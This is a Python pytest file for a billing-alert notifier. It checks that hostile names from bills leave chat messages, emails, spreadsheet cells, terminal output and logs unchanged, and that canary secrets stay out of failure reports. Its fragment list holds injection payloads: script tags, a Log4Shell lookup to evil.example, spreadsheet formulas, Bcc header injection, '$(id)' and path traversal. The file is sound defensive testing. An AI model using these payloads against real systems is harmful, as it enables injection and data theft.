"""Names out of bills, as hostile as can be, through every type of channel: they are shown, and they do nothing.

A message full of hostile names has the headers, keys, tags, links and mentions of the same message with harmless names,
or fewer where there is less room. New types of channels are tried by themselves, as far as their settings need nothing new.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import logging
import random
import re
import traceback
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from contextlib import closing
from dataclasses import dataclass, replace
from datetime import date
from decimal import Decimal
from email import message_from_bytes
from email.policy import default
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, cast, get_args

import pytest
import structlog
from pydantic import BaseModel
from rich.text import Text

from notices import NOW, SAMPLES, ZONE, cny
from servers_http import HttpSink, Reply, Request, ThreadedServer
from spendwatch import logs
from spendwatch.addresses import LOOPBACK
from spendwatch.bills.cells import guarded
from spendwatch.channels.channel import Channel
from spendwatch.channels.chat_settings import ChatSettings
from spendwatch.channels.config import CHANNELS
from spendwatch.channels.opening import open_channel
from spendwatch.cli.screen import clean as cleaned_for_a_screen
from spendwatch.connection import Auth
from spendwatch.domain.alert import Acknowledgement, AlertId
from spendwatch.domain.causes import Cause, Causes, Course, Main
from spendwatch.domain.commodity import Category, Exposure
from spendwatch.domain.delivery import Cadence
from spendwatch.domain.errors import DeliveryError
from spendwatch.domain.month_close import ClosedMonth, FinalFigure
from spendwatch.domain.notification import Notification, first_attempt
from spendwatch.domain.novelty import FirstCost
from spendwatch.domain.plans import PlanOrder
from spendwatch.domain.policy import ChannelName, Part
from spendwatch.domain.report import Report, ReportAccount, ReportLine
from spendwatch.domain.scope import BudgetScope, Dimension
from spendwatch.domain.statement import AccountId, WorkspaceId
from spendwatch.outgoing import Outgoing

pytestmark = pytest.mark.filterwarnings("ignore:'imghdr':DeprecationWarning")  # of the package apprise
USUAL, LONG = 1_500, 100_000
"""Hostile strings in a usual run, and by `--long`."""
FRAGMENTS = (
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=1>',
        "</td></table>",
        "<!--",
        "]]>",
        "&lt;b&gt;",
    ),
    *("@all", "@everyone", "@here", "@channel", "<!channel>", "<!here|x>", "<!everyone>", "<@U0123>", "<@all>", "<#C01>"),
    *("<at id=all></at>", "<at>all</at>", '<at user_id="all">x</at>', "@13800000000", "<users/all>", "@room"),
    *(
        "[x](https://evil.example)",
        "![x](https://evil.example/a.png)",
        "<https://evil.example|x>",
        "https://evil.example/a",
        "](",
        "|",
    ),
    *(
        "**b**",
        "*b*",
        "_i_",
        "__u__",
        "~~s~~",
        "`c`",
        "```",
        "# h",
        "> q",
        "- l",
        "1. n",
        "||s||",
        "\\",
        "\\*",
        "{color}",
        "|a|b|",
    ),
    *("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example")'),
    *(
        "\r\nBcc: a@evil.example",
        "\nSubject: x",
        "\r\n\r\n<html>",
        "=?utf-8?q?x?=",
        "\x00",
        "\x1b[31m",
        "\x1b]0;t\x07",
        "\x7f",
        "\x85",
    ),
    *("\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\u2029", "\ud800", "\U000e0041", "\u0301" * 9, "ﷺ", "李雷", "🙂‍↔️"),
    *(
        "{{ 7*7 }}",
        "{% x %}",
        "{name.__class__}",
        "{}",
        "%s",
        "%(x)s",
        "${jndi:ldap://evil.example}",
        "$(id)",
        "`id`",
        "'; DROP",
        "../../x",
    ),
    *("javascript:alert(1)", "data:text/html,x", "a" * 70, " ", "", "0", "null", "NaN", '"', "'", "\\u0000", '","a":"b'),
)


def hostile(count: int, seed: int) -> Iterator[str]:
    """Yield every fragment, then mixtures of them."""
    dice = random.Random(seed)  # noqa: S311 -- names, no secrets
    yield from (f"{one} z" for one in FRAGMENTS)
    for _ in range(count - len(FRAGMENTS)):
        yield "".join(dice.choices(FRAGMENTS, k=dice.randint(1, 4))) + dice.choice((" z", "z", "\nz"))


SLOTS = 24


def message(number: int, names: Sequence[str]) -> Notification:
    """Return a message with those names wherever a bill or a file can name something."""
    name = iter(names).__next__
    dimensions = (Dimension.MODEL, Dimension.API_KEY, Dimension.WORKSPACE, Dimension.ITEM)
    parts = tuple(Part(dimension, text := name(), text) for dimension in dimensions)
    causes = Causes((Cause(cny("5"), Decimal(1), parts[:3], Category.INFERENCE, cny("1")),), main=(Main(parts[1], Decimal(1)),))
    base = SAMPLES[
        ("threshold", "console", "first-cost", "plan-ordered", "overdue", "rejected", "month-closed", "report-daily")[
            number % 8
        ]
    ]
    scope = BudgetScope(AccountId("1000000000000001"), WorkspaceId(name()))
    if number % 2:
        scope = replace(scope, budget=name(), value=name())
    first = FirstCost(parts[3], date(2026, 9, 1), cny("1"), parts[:2])
    plan = PlanOrder(Part(Dimension.COMMODITY, name()), Category.OTHER, date(2026, 9, 1), name()[:20])
    figure = FinalFigure(name(), name(), cny("1"), cny("2"), None)
    account = ReportAccount(scope.account, ReportLine(name(), cny("1")), (ReportLine(name(), cny("1")),), causes=causes)
    facts = base.facts
    facts = replace(
        facts,
        scope=scope if isinstance(facts.scope, BudgetScope) else facts.scope,
        account_name=name(),
        name=name(),
        owner=name(),
        course=Course(causes, facts.course.daily),
        subscribed=causes,
        firsts=(first,) if facts.firsts else (),
        plans=(plan,) if facts.plans else (),
        closed=ClosedMonth((figure,), (), ()) if facts.closed else None,
        exposure=Exposure((), (name(),), (name(),)),
        files=((name(), name()),) if facts.files else (),
        folder=name() if facts.files else "",
        detail=name().replace("\n", " ") if facts.files else "",  # each of its lines is a point
        report=Report(Cadence.DAILY, NOW, "2026-08", is_final=False, accounts=(account,)) if facts.report else None,
        acknowledged=Acknowledgement(AlertId("x"), name(), NOW, None, name()),
    )
    return replace(base, facts=facts)


KINDS: Mapping[str, type[BaseModel]] = {get_args(kind.model_fields["type"].annotation)[0]: kind for kind in CHANNELS.models}
PORT = 9  # discard: nobody listens
CANARY = "canary7f3a9"


def settings_of(kind: str, url: str, folder: Path) -> dict[str, object]:
    """Return the least that a channel of that type is told, with a canary in each secret."""
    program = folder / "run"
    program.write_text("#!/bin/sh\ncat >/dev/null\nexit 1\n")
    program.chmod(0o700)
    known: dict[str, object] = {
        "host": "127.0.0.1",
        "port": int(url.rpartition(":")[2]),
        "security": "none",
        "username": "alerts",
        "from": "alerts@example.com",
        "to": ["finops@example.com"],
        "command": [str(program)],
        "chat": "-100",
        "server": url,
        "endpoint": url,
        "sign_name": "spendwatch",
        "template": "SMS_1",
        "private_key": f"whsk_{(CANARY + 'A' * 43)[:43]}=",
        "url": f"{url}/{CANARY}-path?access_token={CANARY}-query",
        "colour": "never",
    }
    model, found = KINDS[kind], dict[str, object]({"type": kind})
    if "host" not in model.model_fields:
        del known["username"]
    if kind == "sms":
        known["to"] = ["+8613800000000"]
    elif kind == "apprise":
        known["url"] = f"json{url.removeprefix('http')}/{CANARY}-path"
    for name, field in model.model_fields.items():
        key = field.alias or name
        if key in known:
            found[key] = known[key]
        elif field.annotation is Auth:
            found[key] = Auth.BEARER
        elif "SecretStr" in str(field.annotation) and key != "proxy_auth":
            found[key] = f"{CANARY}-{key}"
    return found


def opened(kind: str, url: str, folder: Path) -> Channel[Any]:
    """Return the channel of that type."""
    config: Any = KINDS[kind].model_validate(settings_of(kind, url, folder))
    clients = partial(Outgoing, LOOPBACK)
    return open_channel(kind, config, clients=clients, zone=ZONE, clock=lambda: NOW, allow_networks=LOOPBACK)


class Tags(HTMLParser):
    """The tags of a page with their attributes' names; around an amount a line does not end, so those do not count."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: Counter[str] = Counter()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if attrs != [("style", "white-space:nowrap")]:
            self.found[f"<{tag} {' '.join(name for name, _ in attrs)}>"] += 1


PLAIN = frozenset({".markdown.title", ".card.header.title.content", ".summary"})
"""Where services show a text as it is: previews and titles."""
ESCAPED = re.compile(r"\\[^A-Za-z0-9\s]|&(?:lt|gt|amp|quot|#39|#x27);")
_TAGS = r"<[^>\n]+>|@(?:all|everyone|here|channel|room|[0-9]{11})|https?://[^\s)>\"|]+"
_SIGNS = r"\*+|`+|~~|\|\||(?<![A-Za-z0-9])_+|_+(?![A-Za-z0-9])"
_LINKS = r"!?\[[^\]\n]*\]\([^)\n]*\)|^\s*(?:#+|>) "
MARKUP = {"telegram": _TAGS, "slack": f"{_TAGS}|{_SIGNS}"}
"""What a service obeys: HTML, its own marks; all others know Markdown with all of it."""


def markup(text: str, kind: str = "") -> Counter[str]:
    """Return what a chat service would obey in a text."""
    pattern = MARKUP.get(kind, f"{_LINKS}|{_TAGS}|{_SIGNS}")
    found = re.findall(pattern, ESCAPED.sub("·", text), re.MULTILINE | re.IGNORECASE)
    return Counter(re.sub(r"\[[^\]]*\]", "[]", one) for one in found)


def texts_in(value: object, path: str = "") -> Iterator[tuple[str, str]]:
    """Yield every text of a document, with its place; items of a list have the same."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield f"{path}.{key}:", key
            yield from texts_in(inner, f"{path}.{key}")
    elif isinstance(value, list):
        for inner in value:
            yield from texts_in(inner, f"{path}[]")
    elif isinstance(value, str):
        yield path, value


@dataclass(frozen=True)
class Seen:
    """What a program finds in a rendered message that it may act on."""

    keys: frozenset[str]
    acts: Counter[str]
    texts: tuple[str, ...]


def seen_in(kind: str, rendered: bytes) -> Seen:
    if kind == "email":
        mail = message_from_bytes(rendered, policy=default)
        bodies = {part.get_content_type(): part.get_content() for part in mail.walk() if not part.is_multipart()}
        headers = [f"{place}: {name}" for place, part in enumerate(mail.walk()) for name in part.keys()]  # noqa: SIM118 -- repeated ones count
        values = [str(value) for part in mail.walk() for value in part.values()]
        assert len(headers) == len(set(headers)), "no header stands there twice"
        return Seen(frozenset(headers), Tags(bodies["text/html"]).found, (*values, bodies["text/plain"], bodies["text/html"]))
    try:
        found = dict[str, list[str]]()
        for place, text in texts_in(json.loads(rendered)):
            found.setdefault(place, []).append(text)
    except ValueError:
        return Seen(frozenset(), Counter(), (rendered.decode(),))
    texts = tuple(text for some in found.values() for text in some)
    is_obeyed = issubclass(KINDS[kind], ChatSettings) and kind != "sms"
    obeyed = [text for place, some in found.items() for text in some if is_obeyed and place not in PLAIN]
    return Seen(frozenset(found), sum((markup(text, kind) for text in obeyed), Counter()), texts)


def through(kind: str, names: Sequence[str], folder: Path) -> int:
    """Render messages full of these names; return how many."""
    channel, harmless, count = opened(kind, f"http://127.0.0.1:{PORT}", folder), dict[int, Seen](), 0
    target = channel.targets[0]
    for number, start in enumerate(range(0, len(names), SLOTS)):
        some = [*names[start : start + SLOTS], *["a z"] * SLOTS][:SLOTS]
        if number % 8 not in harmless:
            harmless[number % 8] = seen_in(kind, channel.render(message(number, ["a z"] * SLOTS), target))
        seen, usual = seen_in(kind, channel.render(message(number, some), target)), harmless[number % 8]
        assert seen.keys <= usual.keys, (some, seen.keys - usual.keys)
        assert seen.acts - usual.acts == Counter(), some
        odd = {char for text in seen.texts for char in text if not char.isprintable() and char not in "\r\n"}
        assert odd == set(), (some, odd)
        count += 1
    return count


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_names_change_no_message(kind: str, tmp_path: Path) -> None:
    assert through(kind, list(hostile(USUAL, seed=1)), tmp_path) == -(-USUAL // SLOTS)


@pytest.mark.long
@pytest.mark.parametrize("kind", KINDS)
def test_a_hundred_thousand_hostile_names_change_no_message(kind: str, tmp_path: Path) -> None:
    assert through(kind, list(hostile(LONG, seed=20261130)), tmp_path) == -(-LONG // SLOTS)


ENGLISH_ALLOWED = re.compile(
    r"`[^`]*`|spendwatch [-\w ]+|https?://\S+|\S+@\S+|\b(?:li on finance-1|API [Kk]ey\w*|Token Plan|Coding Plan)\b"
)
IN_CHINESE = ("threshold", "forecast", "overdue", "balance-low-by-settlement", "test", "digest-of-the-night", "report-daily")


@pytest.mark.parametrize("kind", [kind for kind, model in KINDS.items() if "language" in model.model_fields])
def test_a_chinese_message_holds_no_english_sentence(kind: str, tmp_path: Path) -> None:
    """Whatever a channel adds of its own is in the language of its readers, too."""
    config = settings_of(kind, f"http://127.0.0.1:{PORT}", tmp_path) | {"language": "zh"}
    channel = open_channel(
        kind, cast("Any", KINDS[kind].model_validate(config)), clients=partial(Outgoing, LOOPBACK), zone=ZONE, clock=lambda: NOW
    )
    for name in IN_CHINESE:
        seen = seen_in(kind, channel.render(SAMPLES[name], channel.targets[0]))
        texts = [re.sub(r"<[^>]*>|[{}\[\]\"]", " ", text) for text in seen.texts if re.search("[\u4e00-\u9fff]", text)]
        assert texts, name
        english = [ENGLISH_ALLOWED.sub(" ", text) for text in texts]
        assert [found for text in english for found in re.findall(r"[A-Za-z]{3,} [a-z]{2,} [a-z]{2,}", text)] == [], name


def test_this_test_would_notice() -> None:
    """The control: what a name must not do is seen where it does it."""
    assert markup("hello @everyone [x](https://evil.example) <!channel> **b**") == Counter(
        {"@everyone": 1, "[](https://evil.example)": 1, "<!channel>": 1, "**": 2}
    )
    assert markup("a_b and _i_ or __u__") == Counter({"_": 2, "__": 2})
    assert markup(r"\@everyone \[x\] &lt;!channel&gt;") == Counter()
    assert Tags("<p>a<script>1</script></p>").found == Counter({"<p >": 1, "<script >": 1})


def test_no_hostile_name_is_a_formula_in_a_spreadsheet() -> None:
    for name in hostile(USUAL, seed=2):
        assert guarded(name)[:1] not in set("=+-@\t\r"), name


def test_no_hostile_name_is_a_command_to_a_terminal() -> None:
    for name in hostile(USUAL, seed=3):
        shown = Text.from_markup(cleaned_for_a_screen(name), emoji=False)
        assert shown.plain.isprintable() or not shown.plain
        assert shown.spans == []


@pytest.mark.parametrize("form", ["json", "console"])
def test_a_hostile_name_in_a_log_is_one_line_of_printable_text(form: str) -> None:
    stream = io.StringIO()
    logs.configure(form, stream=stream, environ={})
    names = list(hostile(USUAL, seed=4))
    try:
        for name in names:
            structlog.get_logger("spendwatch").warning("bill_refused", file=name, why=name)
    finally:
        structlog.reset_defaults()
    lines = stream.getvalue().splitlines()
    assert len(lines) == len(names)
    assert [line for line in lines if not line.isprintable()] == []


class Parrot(HttpSink):
    """A receiver that repeats in its answer whatever it was sent, with every status in turn."""

    statuses = (200, 302, 400, 401, 404, 410, 413, 429, 500, 503)

    def reply_to(self, request: Request) -> Reply:
        status = self.statuses[len(self.requests) % len(self.statuses)]
        said = {"errcode": 310000, "code": 9499, "ok": False, "errmsg": f"{request.path} {dict(request.headers)}"}
        headers = {"location": request.path, "x-error": request.path} if status != 200 else {}
        return Reply(status, headers, json.dumps(said | {"said": request.body.decode()}).encode())


class ParrotOfMail(ThreadedServer):
    """A mail server that refuses every login, and repeats what it was sent."""

    def __init__(self) -> None:
        super().__init__("127.0.0.1", 0)

    async def open(self) -> asyncio.Server:
        return await asyncio.start_server(self._talk, self.host, self.port)

    async def _talk(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with closing(writer):  # also when the server ends amid a talk
            writer.write(b"220 parrot\r\n")
            while line := await reader.readline():
                word = line[:4].upper()
                said = (
                    base64.b64decode(line.split()[-1] + b"==", validate=False).replace(b"\0", b" ") if word == b"AUTH" else b""
                )
                writer.write(
                    b"250-parrot\r\n250 AUTH PLAIN LOGIN\r\n"
                    if word == b"EHLO"
                    else b"535 5.7.8 " + line.strip() + said + b"\r\n"
                )
                if word == b"QUIT":
                    break


def failures_of(channel: Channel[Any], said: list[str]) -> int:
    """Send over the channel again and again; keep everything that is said of it."""
    failed = 0
    for _ in Parrot.statuses:
        for target in channel.targets:
            sample = SAMPLES["threshold"]
            attempt = first_attempt(sample, ChannelName("x"), target, channel.render(sample, target))
            try:
                said.append(str(asyncio.run(channel.send(attempt))))
            except DeliveryError as error:
                failed += 1
                said += [str(error), repr(error), repr(vars(error)), "".join(traceback.format_exception(error))]
    return failed


@pytest.mark.parametrize("is_there", [True, False])
@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind != "console"])
def test_no_secret_is_in_anything_that_is_said_of_a_failure(
    kind: str, *, is_there: bool, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    monkeypatch.setattr("spendwatch.pacing.RateLimiter.turn", _at_once)
    receiver: ThreadedServer = ParrotOfMail() if kind == "email" else Parrot()
    with receiver:
        url = f"http://127.0.0.1:{receiver.port if is_there else PORT}"
        said = [repr(opened(kind, url, tmp_path)), repr(KINDS[kind].model_validate(settings_of(kind, url, tmp_path)))]
        assert failures_of(opened(kind, url, tmp_path), said) > 0
        was_called = not isinstance(receiver, Parrot) or bool(receiver.requests)
    assert was_called == (is_there or kind == "email") or kind == "exec"
    said.append(caplog.text)
    told = [one for one in said if CANARY in one]
    assert told == []


async def _at_once(_: object) -> None:
    """Keep no pace: the receiver is ours."""
